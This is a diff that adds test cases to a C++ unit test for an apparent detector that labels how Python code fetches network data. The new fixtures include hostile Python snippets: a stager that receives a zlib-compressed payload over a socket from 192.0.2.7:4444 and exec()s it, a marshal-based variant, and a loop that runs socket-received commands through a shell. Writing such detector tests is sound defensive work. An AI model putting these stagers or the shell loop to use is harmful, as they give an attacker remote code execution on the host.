@@ -74,6 +74,25 @@ TEST(Fetches, OfPython) {
        "urllib.request.urlopen http://h.example.invalid/a -> file:/tmp/o"},
       {"import http.client\nc = http.client.HTTPSConnection('h.example.invalid')\nc.request('GET', '/a')\n",
        "http.client.HTTPSConnection().request https://h.example.invalid/a -> unknown"},
+      {"import socket, struct, zlib\ns = socket.socket(2, socket.SOCK_STREAM)\n"
+       "s.connect(('192.0.2.7', 4444))\nl = struct.unpack('>I', s.recv(4))[0]\nd = s.recv(l)\n"
+       "while len(d) < l:\n    d += s.recv(l - len(d))\nexec(zlib.decompress(d), {'s': s})\n",
+       "socket.socket().recv tcp://192.0.2.7:4444 -> interpreter:exec run exec"},
+      {"import socket\nwith socket.create_connection(('h.example.invalid', 80)) as s:\n"
+       "    open('/tmp/m.bin', 'wb').write(s.recv(65536))\n",
+       "socket.create_connection().recv tcp://h.example.invalid:80 -> file:/tmp/m.bin"},
+      {"import socket, sys, marshal\ns = socket.socket()\ns.connect((sys.argv[1], 80))\n"
+       "exec(marshal.loads(s.makefile('rb').read()))\n",
+       "socket.socket().makefile tcp://\xEF\xBF\xBC:80 -> interpreter:marshal.loads run marshal.loads (in "
+       "part)"},
+      // Commands that are run one by one are no fetch, nor is what is only read.
+      {"import socket, subprocess\ns = socket.socket()\ns.connect(('192.0.2.7', 4444))\n"
+       "while True:\n    subprocess.run(s.recv(1024).decode(), shell=True)\n",
+       ""},
+      {"import socket\ns = socket.socket()\ns.connect(('192.0.2.7', 80))\nprint(s.recv(10))\n", ""},
+      {"import pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, 'http://h.example.invalid/a')\n"
+       "with open('/tmp/a', 'wb') as f:\n    c.setopt(pycurl.WRITEDATA, f)\n    c.perform()\n",
+       "pycurl.Curl().setopt http://h.example.invalid/a -> file:/tmp/a"},
       {"import requests, sys\nrequests.get('http://h.example.invalid/' + sys.argv[1])\n",
        "requests.get http://h.example.invalid/\xEF\xBF\xBC -> unknown (in part)"},
       {"import requests\nrequests.post('http://h.example.invalid/p', data={})\n", ""},
